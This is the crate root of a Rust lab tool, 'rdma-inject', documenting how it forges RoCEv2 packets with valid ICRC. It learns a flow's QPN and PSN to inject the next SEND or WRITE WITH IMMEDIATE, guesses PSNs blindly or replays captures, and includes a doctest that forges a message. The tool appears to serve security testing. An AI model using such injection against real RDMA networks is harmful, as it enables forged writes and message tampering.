//! `rdma-inject`: the lab's attack tool against RDMA data paths that trust any packet with the
//! right QPN and PSN (issue 11). It forges RoCEv2 RC packets with the `roce` encoder (valid
//! ICRC) and sends them as raw Ethernet frames out of one interface:
//!
//! * **on-path** (`--observe`): learn a live flow's QPN, next PSN, addresses, UDP port and any
//!   WRITE's rkey/address, then inject the next-PSN SEND or WRITE WITH IMMEDIATE;
//! * **off-path** (`--blind`): random-PSN guesses at a known QPN;
//! * **replay** (`--replay`): captured requests again, verbatim or renumbered into a live flow.
//!
//! Everything that decides what goes on the wire is pure and tested on the host; only [`net`]
//! touches sockets, and [`run`] ties the two together.
//!
//! Modules, in reading order:
//!
//! 1. [`psn`] — 24-bit PSN arithmetic (next, wrap at 2^24);
//! 2. [`mac`] — MAC addresses from the command line and sysfs;
//! 3. [`learn`] — [`learn::FlowLearner`]: a victim's request flow from decoded packets (only
//!    SEND and RDMA WRITE advance the PSN);
//! 4. [`forge`] — the frames: next-PSN SEND / WRITE WITH IMMEDIATE, blind guesses, renumbered
//!    replays;
//! 5. [`replay`] — the request packets of a capture file;
//! 6. [`report`] — what is printed: one line or JSON object per injected packet, a summary;
//! 7. [`cli`] — the command line and its checks, as a [`cli::Plan`];
//! 8. [`net`] — the interface and its two AF_PACKET sockets (the only `unsafe` code);
//! 9. [`run`] — runs a plan: sockets first, then learn, forge, send.
//!
//! ```
//! use rdma_inject::forge::{forge, Injection};
//! use rdma_inject::learn::FlowLearner;
//! use roce::{Opcode, PacketBuilder};
//!
//! // A captured SEND from 10.77.0.2 to QP 17 on 10.77.0.1 ...
//! let seen = PacketBuilder::new(Opcode::RC_SEND_ONLY)
//!     .ipv4([10, 77, 0, 2].into(), [10, 77, 0, 1].into())
//!     .dest_qp(17)
//!     .psn(0x83_f247)
//!     .payload(*b"genuine")
//!     .frame()?;
//! let mut learner = FlowLearner::new(Some([10, 77, 0, 1].into()));
//! learner.observe(&roce::decode_ethernet(&seen)?);
//! // ... is all it takes to forge the next message.
//! let forged = forge(learner.flow().unwrap(), &Injection::Send(b"FORGED".to_vec()))?;
//! let p = roce::decode_ethernet(&forged.frame)?;
//! assert_eq!((p.bth.psn, p.payload, p.icrc_ok), (0x83_f248, &b"FORGED"[..], true));
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

pub mod cli;
pub mod forge;
pub mod learn;
pub mod mac;
pub mod net;
pub mod psn;
pub mod replay;
pub mod report;
pub mod run;
